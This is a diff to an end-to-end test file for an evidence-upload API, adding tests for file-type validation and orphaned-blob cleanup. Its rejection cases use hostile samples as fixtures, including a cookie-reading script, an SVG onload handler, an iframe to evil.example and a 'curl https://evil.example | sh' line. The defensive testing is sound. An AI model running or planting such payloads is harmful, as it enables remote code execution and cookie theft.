@@ -6,6 +6,9 @@ import request from 'supertest';
 import { CSV_TEXT, elfBytes, pngBytes } from '../../apps/api/src/modules/evidence/__tests__/evidence-fixtures';
 import { RequestContext } from '../../apps/api/src/common/request-context';
 import { EvidenceService } from '../../apps/api/src/modules/evidence/evidence.service';
+import { EvidenceOrphansService } from '../../apps/api/src/modules/evidence/evidence-orphans.service';
+import { EvidenceRepository } from '../../apps/api/src/modules/evidence/evidence.repository';
+import { BLOB_STORAGE, type BlobStorage } from '../../apps/api/src/modules/evidence/storage/blob-storage';
 import { RATE_LIMITS } from '../../apps/api/src/modules/rate-limits/rate-limit.service';
 import { createDraft, nominate, vendorWithOwner } from '../support/factories';
 import { countRows, createTestApp, GraphQLClient, TestApp } from '../support/test-app';
@@ -57,11 +60,11 @@ describe('Evidence files and links (API e2e)', () => {
   const blobsDir = () => path.join(dataDir, 'blobs');
   const stagingDir = () => path.join(dataDir, 'uploads');
 
-  function upload(client: GraphQLClient | null, caseStudyId: string, name: string, bytes: Buffer, title?: string): request.Test {
+  function upload(client: GraphQLClient | null, caseStudyId: string, name: string, bytes: Buffer, title?: string, contentType?: string): request.Test {
     const req = request(t.app.getHttpServer()).post(`/evidence/case-studies/${caseStudyId}/files`);
     if (client) req.set('cookie', client.cookieHeader());
     if (title !== undefined) req.field('title', title);
-    return req.attach('file', bytes, name);
+    return req.attach('file', bytes, contentType ? { filename: name, contentType } : name);
   }
 
   function download(client: GraphQLClient | null, url: string): request.Test {
@@ -187,6 +190,78 @@ describe('Evidence files and links (API e2e)', () => {
     const exe = await upload(owner, draft.id, 'tool.exe', Buffer.from('MZ plain bytes'));
     expectErrorBody(exe, 400, 'BAD_USER_INPUT', 'UNSUPPORTED_FILE_TYPE');
     await expectNothingWritten(draft.id, 0, blobsBefore);
+  });
+
+  it.each([
+    ['an HTML page named .pdf', 'report.pdf', '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>', undefined],
+    ['an SVG named .png', 'chart.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>', undefined],
+    ['an SVG behind an XML declaration, named .txt', 'notes.txt', '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"></svg>', undefined],
+    ['an HTML page named .md', 'readme.md', '# Results\n\n<iframe src="https://evil.example"></iframe>', undefined],
+    ['a shell script named .txt', 'run.txt', '#!/bin/sh\ncurl https://evil.example | sh\n', undefined],
+    ['plain text named .pdf', 'summary.pdf', 'Forecast error fell from 32% to 21%.', undefined],
+    ['CSV declared as text/html', 'metrics.csv', 'metric,value\nwape,21\n', 'text/html'],
+    ['a PNG declared as image/svg+xml', 'chart.png', null, 'image/svg+xml'],
+  ] as const)('refuses %s, and writes nothing', async (_label, name, content, contentType) => {
+    const draft = await createDraft(owner, vendorId);
+    const blobsBefore = filesUnder(blobsDir()).length;
+    const bytes = content === null ? pngBytes(4, 4) : Buffer.from(content);
+    const res = await upload(owner, draft.id, name, bytes, undefined, contentType);
+    expect(res.status).toBe(400);
+    expect(res.body.error.code).toBe('BAD_USER_INPUT');
+    expect(['ACTIVE_CONTENT', 'FILE_TYPE_MISMATCH', 'DECLARED_TYPE_MISMATCH']).toContain(res.body.error.reason);
+    expect(res.body.error.fields).toEqual([{ field: 'file', message: res.body.error.message }]);
+    await expectNothingWritten(draft.id, 0, blobsBefore);
+  });
+
+  it('accepts the types browsers declare for the accepted kinds', async () => {
+    const draft = await createDraft(owner, vendorId);
+    const csv = await upload(owner, draft.id, 'export.csv', Buffer.from('metric,value\nwape,21\nmape,19\n'), undefined, 'application/vnd.ms-excel');
+    expect(csv.status).toBe(201);
+    expect(csv.body.item.mediaType).toBe('text/csv');
+    const unknown = await upload(owner, draft.id, 'chart.png', pngBytes(5, 5), undefined, 'application/octet-stream');
+    expect(unknown.status).toBe(201);
+    expect(unknown.body.item.mediaType).toBe('image/png');
+  });
+
+  it('removes evidence files no row references once past the grace period, and abandoned staged uploads, by a job', async () => {
+    const blobPath = (hash: string) => path.join(blobsDir(), hash.slice(0, 2), hash.slice(2, 4), hash);
+    const kept = await createDraft(owner, vendorId);
+    const keptBytes = pngBytes(41, 7);
+    expect((await upload(owner, kept.id, 'kept.png', keptBytes)).status).toBe(201);
+    // A case study deleted with its evidence (rows cascade; the blob stayed behind before this job).
+    const deleted = await createDraft(owner, vendorId);
+    const deletedBytes = pngBytes(42, 7);
+    expect((await upload(owner, deleted.id, 'deleted.png', deletedBytes)).status).toBe(201);
+    await t.dataSource.query(`DELETE FROM case_studies WHERE id = $1`, [deleted.id]);
+    // An upload abandoned after its blob was written but before its row committed (a crash).
+    const abandonedBytes = pngBytes(43, 7);
+    await t.app.get(EvidenceRepository).registerBlob(RequestContext.system(), sha256(abandonedBytes));
+    await t.app.get<BlobStorage>(BLOB_STORAGE).put(sha256(abandonedBytes), abandonedBytes, abandonedBytes.length, 'image/png');
+    // An orphan still inside the grace period (an upload in flight) is left alone.
+    const recentBytes = pngBytes(44, 7);
+    await t.app.get(EvidenceRepository).registerBlob(RequestContext.system(), sha256(recentBytes));
+    await t.app.get<BlobStorage>(BLOB_STORAGE).put(sha256(recentBytes), recentBytes, recentBytes.length, 'image/png');
+    await t.dataSource.query(`UPDATE evidence_blobs SET stored_at = now() - interval '25 hours' WHERE sha256 = ANY($1)`, [[keptBytes, deletedBytes, abandonedBytes].map(sha256)]);
+    // Staged uploads of a process that died mid-request: an old one and one in progress.
+    fs.mkdirSync(stagingDir(), { recursive: true });
+    const staleUpload = path.join(stagingDir(), 'upload-1-stale');
+    const liveUpload = path.join(stagingDir(), 'upload-2-live');
+    fs.writeFileSync(staleUpload, 'x');
+    fs.writeFileSync(liveUpload, 'y');
+    fs.utimesSync(staleUpload, new Date(Date.now() - 48 * 3_600_000), new Date(Date.now() - 48 * 3_600_000));
+
+    expect(await t.app.get(EvidenceOrphansService).removeOrphans()).toEqual({ blobs: 2, stagedFiles: 1 });
+    expect(fs.existsSync(blobPath(sha256(keptBytes)))).toBe(true);
+    expect(fs.existsSync(blobPath(sha256(deletedBytes)))).toBe(false);
+    expect(fs.existsSync(blobPath(sha256(abandonedBytes)))).toBe(false);
+    expect(fs.existsSync(blobPath(sha256(recentBytes)))).toBe(true);
+    expect(fs.existsSync(staleUpload)).toBe(false);
+    expect(fs.existsSync(liveUpload)).toBe(true);
+    fs.rmSync(liveUpload);
+    // The kept file still downloads; a second run finds nothing more.
+    const list = await owner.query<{ caseStudyEvidence: { items: Array<{ downloadUrl: string }> } }>(LIST, { id: kept.id });
+    expect((await download(owner, list.data!.caseStudyEvidence.items[0].downloadUrl)).status).toBe(200);
+    expect(await t.app.get(EvidenceOrphansService).removeOrphans()).toEqual({ blobs: 0, stagedFiles: 0 });
   });
 
   it('refuses a file over 20 MB with 413 and leaves no row, blob or temporary file', async () => {
